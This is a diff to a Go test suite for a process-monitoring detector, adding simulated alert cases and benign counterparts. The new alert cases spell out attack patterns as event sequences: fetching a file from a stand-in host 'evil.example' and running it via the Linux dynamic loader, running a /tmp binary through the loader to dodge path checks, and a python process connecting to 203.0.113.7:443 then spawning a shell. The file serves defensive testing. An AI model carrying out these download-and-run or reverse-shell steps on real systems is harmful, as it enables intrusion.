@@ -19,6 +19,7 @@ type sceneCase struct {
 const (
 	cat, bash, python, curl, git = "/usr/bin/cat", "/usr/bin/bash", "/usr/bin/python3.11", "/usr/bin/curl", "/usr/bin/git"
 	evil                         = "203.0.113.7:443"
+	loader                       = "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2"
 )
 
 func event(e bodycam.Event) func(*scene) { return func(s *scene) { s.do(e) } }
@@ -100,6 +101,21 @@ var alerts = []sceneCase{
 	{"Program from an untrusted place", "from /tmp", func(s *scene) {
 		s.write(s.run("/usr/bin/cp", "cp", "payload", "/tmp/.x"), "/tmp/.x")
 		s.run("/tmp/.x", "ls")
+	}},
+	{"Program from an untrusted place", "by the loader", func(s *scene) {
+		s.write(s.run("/usr/bin/cp", "cp", "/usr/bin/id", "/tmp/x2"), "/tmp/x2")
+		s.run(loader, "/lib64/ld-linux-x86-64.so.2", "/tmp/x2")
+	}},
+	{"Downloaded program run", "by the loader", func(s *scene) {
+		c := s.run(curl, "curl", "-o", "/workspace/x", "http://evil.example/x")
+		s.connect(c, "evil.example", evil)
+		s.write(c, "/workspace/x")
+		s.run(loader, "/lib64/ld-linux-x86-64.so.2", "--inhibit-cache", "./x")
+	}},
+	{"Shell after a contact", "a child that is sent its commands through a pipe", func(s *scene) {
+		p := s.run(python, "python3", "c.py")
+		s.connect(p, "", "203.0.113.7:443")
+		s.spawn(90, p, "/usr/bin/dash", "sh")
 	}},
 	{"Program without a file", "memfd", event(bodycam.Event{Type: bodycam.TypeExec, Proc: id(11), Exe: "/memfd:a (deleted)", Argv: []string{"ls"}, Marks: bodycam.MarkAnonymous | bodycam.MarkDeleted})},
 	{"Program without a file", "/dev/shm", func(s *scene) { s.run("/dev/shm/x", "x") }},
@@ -404,6 +420,22 @@ var innocent = []sceneCase{
 	{"Program from an untrusted place", "a script of its own in /tmp", func(s *scene) {
 		s.write(11, "/tmp/check.sh")
 		s.run(bash, "bash", "/tmp/check.sh")
+	}},
+	{"Program from an untrusted place", "a program whose libraries are asked for", func(s *scene) {
+		s.write(11, "/tmp/data.bin")
+		s.do(bodycam.Event{Type: bodycam.TypeFork, Proc: id(11), Child: id(60)})
+		s.do(bodycam.Event{Type: bodycam.TypeExec, Proc: id(60), Exe: bash, Script: "/usr/bin/ldd", Argv: []string{"bash", "/usr/bin/ldd", "/tmp/data.bin"}})
+		s.spawn(61, 60, loader, "/lib64/ld-linux-x86-64.so.2", "--verify", "/tmp/data.bin")
+		s.spawn(62, 60, loader, "/lib64/ld-linux-x86-64.so.2", "/tmp/data.bin")
+	}},
+	{"Mass deletion", "a compressor that puts others in their place", func(s *scene) {
+		for i := range 40 {
+			f := fmt.Sprintf("/workspace/data/f%d.csv", i)
+			p := s.run("/usr/bin/gzip", "gzip", "-n", f)
+			s.read(p, f)
+			s.write(p, f+".gz")
+			s.unlink(p, f)
+		}
 	}},
 	{"Program without a file", "a file in /dev/shm that is only data", func(s *scene) { s.write(11, "/dev/shm/sem.x"); s.read(11, "/dev/shm/sem.x") }},
 	{"Downloaded program run", "from a trusted host", func(s *scene) {
